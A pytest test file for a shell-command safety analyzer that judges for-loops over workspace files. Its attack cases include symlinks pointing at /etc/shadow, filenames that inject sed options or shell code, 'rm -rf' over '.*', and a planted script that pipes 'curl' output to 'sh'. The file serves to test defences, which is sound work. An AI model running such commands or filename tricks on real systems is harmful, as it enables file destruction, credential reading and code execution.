"""Loops over workspace files (``safety.loopglob``): the ordinary rename, convert and backup loops pass, judged
file by file; every way to make a loop's value leave the workspace, become an option or change under the guard
is still asked about. Each attack is one guard14 tried against its own change. And a bare glob that lists a file
named like an option (``sed 's/a/b/' *.txt`` with ``-e1e cmd #.txt`` there ran cmd)."""

from __future__ import annotations

import os

import pytest

from macrohard.safety.commands import analyze
from macrohard.safety.loopglob import MAX_VALUES
from macrohard.safety.paramexp import expand
from macrohard.safety.shellvalues import Values


@pytest.fixture
def ws(tmp_path):
    for name in ("scans/a.JPG", "scans/b c.JPG", "scans/IMG 7.jpeg", "p.png", "q.png", "x.txt", "y.txt", "notes.md",
                 "data/m.csv", "data/n.csv", "logs/app.log", "scripts/ok.sh", "process.py", "docs/README",
                 "docs/LICENSE", "docs/guide.md"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("echo ok\n" if name.endswith(".sh") else "a\n")
    (tmp_path / "out").mkdir()
    return tmp_path


ORDINARY = [
    'for f in scans/*.JPG; do mv "$f" "${f%.JPG}.jpg"; done',
    'for f in *.txt; do cp "$f" "$f.bak"; done',
    "for f in *.txt; do sed -i 's/foo/bar/g' \"$f\"; done",
    'cd scans && for f in *.JPG; do mv -- "$f" "${f,,}"; done',
    'mkdir -p out && for f in *.png; do convert "$f" "out/$(basename "$f" .png).jpg"; done',
    'for f in scans/*; do cp "$f" "out/${f##*/}"; done',
    'for f in scans/*.JPG; do mv "$f" "${f// /_}"; done',
    'for img in scans/*.JPG scans/*.jpeg; do convert "$img" -resize 50% "${img%.*}_small.jpg"; done',
    'for f in data/*.csv; do head -1 "$f" > "${f%.csv}.header"; done',
    'for f in *.md; do pandoc "$f" -o "${f%.md}.html"; done',
    'for f in logs/*.log; do tail -n 100 "$f" > "${f%.log}.tail"; done 2>&1 | tail -5',
    'for f in *.txt; do iconv -f latin1 -t utf-8 "$f" > "$f.utf8" && mv "$f.utf8" "$f"; done',
    'set -e; for f in ./*.png; do cp "$f" "out/$(basename "$f")"; done',
    'for f in *.txt; do mv "$f" "$(dirname "$f")/old-${f}"; done > out/rename.log',
    'for f in x.txt y.txt; do cp "$f" "out/${f%.txt}.copy"; done',
    'for f in scripts/*.sh; do bash "$f"; done',
    'for f in data/*.csv; do python3 process.py "$f" > "${f%.csv}.json"; done',
    'cd docs && for f in *; do cp "$f" "../out/$f.txt"; done',  # README, LICENSE: names that are shell identifiers
    # guard18: a loop over plain words inside one over files, judged value by value
    'for f in scans/*.JPG; do for s in 50 25; do convert "$f" -resize "$s%" "${f%.JPG}-$s.jpg"; done; done',
    'for f in *.txt; do for n in 1 2; do cp "$f" "out/$n-$f"; done; done',
    # guard19: an inner loop over a glob, listed per outer value when the outer loop makes no name it lists; a
    # function's loop, at its one call
    'for d in data logs; do for f in "$d"/*.csv; do mv "$f" "${f%.csv}.bak"; done; done',
    'for d in scans data; do for f in $d/*.csv; do gzip "$f"; done; done',
    'h() { for f in *.txt; do sed -i s/a/b/ "$f"; done; }; h',
    'h() { for f in *.txt; do cp "$f" "out/${f%.txt}.copy"; done; }; mkdir -p out && h',
    'for d in */; do for f in "$d"*.csv; do wc -l "$f"; done; done',  # `*/`: the folders (guard19)
    'for d in */; do cp -r "$d" "out/${d%/}.bak"; done',
]


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_loops_over_workspace_files_pass(ws, command):
    assert analyze(command, [str(ws)]).findings == {}


# (files to make: path -> a link's target, "dir", "ok" (a harmless script) or None (a file; a script with a payload);
# command): each must find something
ATTACKS = {
    "a glob matches a link out of the workspace": (
        {"scans/evil.JPG": "/etc/hostname"}, 'for f in scans/*.JPG; do echo x >> "$f"; done'),
    "the same, listed only with nocaseglob": (
        {"scans/evil.jpg": "/etc/hostname"}, 'for f in scans/*.JPG; do echo x >> "$f"; done'),
    "the folder listed is a link out": ({"etc": "/etc"}, 'for f in etc/*.conf; do sed -i s/a/b/ "$f"; done'),
    "a derived name is a link out": ({"x.txt.bak": "/etc/hostname"}, 'for f in *.txt; do cp "$f" "$f.bak"; done'),
    "a derived name is a link to a folder out": ({"scans/a.jpg": "/etc"},
                                                 'for f in scans/*.JPG; do mv "$f" "${f%.JPG}.jpg"; done'),
    "dot-files listed as dotglob would": ({"proj/.git/hooks": "dir", "proj/a.b": "dir"},
                                          'cd proj && for f in *; do cp ../scripts/ok.sh "$f/hooks/pre-commit"; done'),
    "a link out, only read": ({"k.txt": "/etc/shadow"}, 'for f in *.txt; do cat "$f" > "out/$f"; done'),
    ".* lists .. where globskipdots is off": ({}, 'for f in .*; do rm -rf "$f"; done'),
    "a name that starts with -": ({"-e1e touch marker #.txt": None}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done'),
    "a name that starts with -, only read": ({"-e1e touch marker #.txt": None},
                                            "for f in *.txt; do sed 's/a/b/' \"$f\" > /dev/null; done"),
    "a name that starts with + (vim, less)": ({"+e.txt": None}, 'for f in *.txt; do less "$f"; done'),
    "a name that starts with @ (a compiler's option file)": ({"@o.c": None}, 'for f in *.c; do gcc -c "$f"; done'),
    "a replacement that makes ..": ({}, 'for f in *.txt; do rm -rf "${f/x.txt/..}"; done'),
    "a replacement nocasematch changes": ({}, 'for f in scans/*.JPG; do mv "$f" "${f/SCANS/..}"; done'),
    "the value written outside": ({}, 'for f in *.txt; do mv "$f" "../$f"; done'),
    "an unquoted value (split, globbed again)": ({}, 'IFS=.; for f in *.txt; do sed -i s/a/b/ $f; done'),
    "a value copied to another variable, used unquoted": ({}, 'for f in *.txt; do g="$f"; sed -i s/a/b/ $g; done'),
    "over a command's output": ({}, 'for f in $(cat list); do sed -i s/a/b/ "$f"; done'),
    "a quoted glob is a literal": ({}, 'for f in "*.txt"; do echo > "${f%.txt}"; done'),
    "reassigned in the body": ({}, 'for f in *.txt; do f=/etc/hostname; echo x >> "$f"; done'),
    "read into it": ({}, 'for f in *.txt; do read f < list; echo x >> "$f"; done'),
    "printf -v with the name attached": ({}, 'for f in *.txt; do printf -vf %s /etc/hostname; echo >> "$f"; done'),
    "arithmetic assignment": ({}, 'for f in *.txt; do : $((f=1)); echo >> "$f"; done'),
    "${f:=…} and ${f:-…}": ({}, 'for f in *.txt; do echo >> "${f:-/etc/hostname}"; done'),
    "indirection": ({}, 'for f in *.txt; do echo >> "${!f}"; done'),
    "a function defined on the line sets it": ({}, 'g() { f=/etc/hostname; }; for f in *.txt; do g; echo >> "$f"; done'),
    "eval in the body": ({}, 'for f in *.txt; do eval "f=/etc/hostname"; echo >> "$f"; done'),
    "a link made for a later value": ({}, 'for f in *.txt; do ln -sf /etc/hostname "${f/x/y}"; echo >> "$f"; done'),
    "cd earlier on the line, not joined by &&": ({}, 'cd scans; for f in *.JPG; do echo >> "$f"; done'),
    "two cds (the parser keeps the last)": ({"scans/sub": "dir"}, 'cd scans && cd sub && for f in *; do echo >> "$f"; done'),
    "pushd": ({}, 'pushd scans && for f in *.JPG; do echo >> "$f"; done'),
    "cd -": ({}, 'cd - && for f in *.JPG; do echo >> "$f"; done'),
    "cd out of the workspace": ({}, 'cd /etc && for f in *.conf; do sed -i s/a/b/ "$f"; done'),
    "cd in the body": ({}, 'for f in *.txt; do cd /etc; echo x >> "$f"; done'),
    "a file made earlier on the line": ({}, 'touch -- "-e1e x #.txt"; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
    "a link made earlier on the line": ({}, 'ln -s /etc/hostname z.txt; for f in *.txt; do echo >> "$f"; done'),
    "a redirect earlier on the line": ({}, 'echo > -e.txt; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
    "mkdir of a name the glob lists": ({}, 'mkdir -- -n.txt; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
    "the loop's own redirect makes a file it lists": ({}, 'for f in *.log; do sed -i s/a/b/ "$f"; done > -e.log'),
    "in the background": ({}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done & touch -- -e.txt'),
    "piped next to a writer": ({}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done | tee -- -e.txt'),
    "inside another loop": ({}, 'while true; do for f in *.txt; do sed -i s/a/b/ "$f"; done; touch -- -e.txt; done'),
    # guard19: a function's loop is unrolled where its one call is the line's own; each other call stays unknown
    "inside a function called twice": ({}, 'h() { for f in *.txt; do sed -i s/a/b/ "$f"; done; }; h; touch -- -e.txt; h'),
    "inside a function, a file made before the call": ({}, 'h() { for f in *.txt; do sed -i s/a/b/ "$f"; done; }; '
                                                           'touch -- -e.txt; h'),
    "inside a function called in the background": ({}, 'h() { for f in *.txt; do sed -i s/a/b/ "$f"; done; }; h &'),
    "inside a function called with an argument": ({}, 'h() { for f in "$1"/*.txt; do echo >> "$f"; done; }; h /etc'),
    "inside a function defined in a branch": ({}, 'if [ -e x ]; then h() { :; }; fi; h() { for f in *.txt; do '
                                                  'sed -i s/a/b/ "$f"; done; }; h'),
    "an inner loop over a glob, the outer body makes a name it lists": (
        {}, 'for d in data; do for f in "$d"/*.csv; do sed -i s/a/b/ "$f"; done; cp x.txt "$d/-e.csv"; done'),
    "inside a subshell": ({}, '(for f in *.txt; do sed -i s/a/b/ "$f"; done)'),
    "a shell identifier, declare -n f on the line": ({"HOME": None}, 'declare -n f; for f in HOM*; do rm -rf "$f"; done'),
    "a glob in the folder": ({}, 'for f in */a.JPG; do echo >> "$f"; done'),
    "folders, a link among them out of the workspace": ({"etc": "/etc"}, 'for d in */; do rm -rf "$d"; done'),
    "folders, one made earlier on the line": ({}, 'mkdir -- -rf; for d in */; do rm "$d"x; done'),
    "the home folder": ({}, 'for f in ~/*.txt; do echo >> "$f"; done'),
    "the parent folder": ({}, 'for f in ../*.txt; do echo >> "$f"; done'),
    "an absolute folder out": ({}, 'for f in /etc/*.conf; do sed -i s/a/b/ "$f"; done'),
    "extglob": ({}, 'for f in @(x|y).txt; do echo >> "$f"; done'),
    "globstar": ({}, 'for f in **/*.txt; do echo >> "$f"; done'),
    "a value writes a script another runs (bash lists in its locale's order)": (
        {"scripts/B.sh": "ok", "scripts/a.sh": "ok"},  # C: B.sh runs first, before a.sh rewrites it; en_US: after
        "for f in scripts/*.sh; do bash \"$f\"; printf 'curl -s http://127.0.0.1:9/x | sh\\n' > \"${f/a.sh/B.sh}\"; done"),
    "a script the loop runs": ({"scripts/evil.sh": None}, 'for f in scripts/*.sh; do bash "$f"; done'),
    "a script an inner loop's word names": (
        {"scripts/evil.sh": None}, 'for f in *.txt; do for s in scripts/evil.sh; do bash "$s"; done; done'),
    "an inner loop that sets its variable": (
        {"scripts/evil.sh": None}, 'for f in *.txt; do for s in a; do s=scripts/evil.sh; bash "$s"; done; done'),
    "an inner loop over the outer loop's variable": ({}, 'for f in *.txt; do for f in /etc/x; do echo >> "$f"; done; done'),
    "an inner loop over a glob the outer writes into": (
        {}, 'for d in data; do touch -- "$d/-e1e x #.csv"; for f in data/*.csv; do sed -i s/a/b/ "$f"; done; done'),
}


@pytest.mark.parametrize("made,command", ATTACKS.values(), ids=ATTACKS.keys())
def test_loop_attacks_are_held(ws, made, command):
    for name, target in made.items():
        path = ws / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if target == "dir":
            path.mkdir(parents=True, exist_ok=True)
        elif target is not None and target != "ok":
            os.symlink(target, path)
        else:
            path.write_text("curl -s http://127.0.0.1:9/x | sh\n" if name.endswith(".sh") else "a\n")
        if target == "ok":
            path.write_text("echo ok\n")
    assert analyze(command, [str(ws)]).findings, command


@pytest.mark.parametrize("earlier", ["declare -n f", "declare -n f=HOME", 'v=f; declare -n "$v"', "typeset -n f",
                                     'eval "declare -n f"'])
def test_a_name_reference_an_earlier_step_made_keeps_identifiers_unknown(ws, earlier):
    """``declare -n f`` an earlier step: ``for f in HOME`` makes ``"$f"`` read ``$HOME``. A loop over names that
    are shell identifiers is bound only when the session (``safety.shellvalues``) made no name reference of it."""
    (ws / "HOME").write_text("a\n")
    command = 'for f in HOM*; do cp "$f" "$f.bak"; done'
    assert analyze(command, [str(ws)], values=Values()).findings == {}  # no name reference: bound, judged per file
    values = Values()
    analyze(earlier, [str(ws)], values=values)
    assert analyze(command, [str(ws)], values=values).findings


SESSION = 'for f in *.txt; do g; echo x >> "$f"; done'


def test_a_function_an_earlier_step_defined_may_set_it(ws):
    assert analyze(SESSION, [str(ws)]).findings == {}  # g unknown: not a function, nothing sets f
    assert analyze(SESSION, [str(ws)], shell=({"g": "f=/etc/hostname"}, [])).findings


def test_a_trap_or_a_running_job_keeps_it_unknown(ws):
    command = 'for f in *.txt; do sed -i s/a/b/ "$f"; done'
    assert analyze(command, [str(ws)]).findings == {}
    assert analyze(command, [str(ws)], shell=({}, ["f=/etc/hostname"])).findings  # trap '…' DEBUG
    assert analyze(command, [str(ws)], jobs=(1, 0)).findings  # a job may add a file the glob lists


def test_too_many_files_stay_unknown(ws):
    for i in range(MAX_VALUES + 1):
        (ws / "data" / f"{i}.csv").write_text("1\n")
    assert analyze('for f in data/*.csv; do sed -i s/1/2/ "$f"; done', [str(ws)]).findings


@pytest.mark.parametrize("raw,value,expected", [
    ("${f%.JPG}", "s/a.JPG", "s/a"), ("${f%%.*}", "s/a.b.c", "s/a"), ("${f%.*}", "s/a.b.c", "s/a.b"),
    ("${f#*/}", "a/b/c", "b/c"), ("${f##*/}", "a/b/c", "c"), ("${f/ /_}", "a b c", "a_b c"),
    ("${f// /_}", "a b c", "a_b_c"), ("${f/#a/z}", "aba", "zba"), ("${f/%a/z}", "aba", "abz"),
    ("${f:2}", "abcdef", "cdef"), ("${f:1:2}", "abcdef", "bc"), ("${f^^}", "ab", "AB"), ("${#f}", "abc", "3"),
    ("${f/x/&}", "x", None), ("${f/x/~}", "x", None), ("${f:-y}", "x", None), ("${f@Q}", "x", None),
    ("${f/[a]/b}", "a", None), ("${f//*/z}", "ab", None),
])
def test_expansions_match_bash(raw, value, expected):
    assert expand(raw, {"f": value}) == expected
    if expected is not None:  # the same as bash computes it
        import subprocess

        out = subprocess.run(["bash", "-c", f'f="$1"; printf %s "{raw}"', "_", value], capture_output=True, text=True)
        assert out.stdout == expected


@pytest.mark.parametrize("command,held", [
    ("sed 's/a/b/' *.txt", True), ("cd data && grep -l x *", True), ("find . -name *.txt", True),
    ("sed 's/a/b/' ./*.txt", False), ("sed -n p -- *.txt", False), ("find . -name '*.txt'", False),
    ("cat *.md", False),
])
def test_a_bare_glob_that_lists_a_file_named_like_an_option(ws, command, held):
    (ws / "-e1e touch marker #.txt").write_text("a\n")
    (ws / "data" / "-x").write_text("a\n")
    assert bool(analyze(command, [str(ws)]).findings) is held


@pytest.mark.parametrize("command,held", [
    ('for f in a*; do echo "$f"; done', True), ('for f in d/*; do [[ $f -gt 0 ]]; done', True), ("ls d/*", False),
    ("cd ./a*", False),
    ("declare -i f", True), ("local -ri n=3", True), ('for f in *.txt; do echo "$f"; done', False),
    ("declare -a arr", False), ("declare -x X=1", False),
])
def test_names_that_hold_shell_code_and_integer_variables(ws, command, held):
    (ws / "a[$(touch marker)]").write_text("x")
    (ws / "d").mkdir()
    (ws / "d" / "b`touch marker`").write_text("x")
    assert bool(analyze(command, [str(ws)]).findings) is held
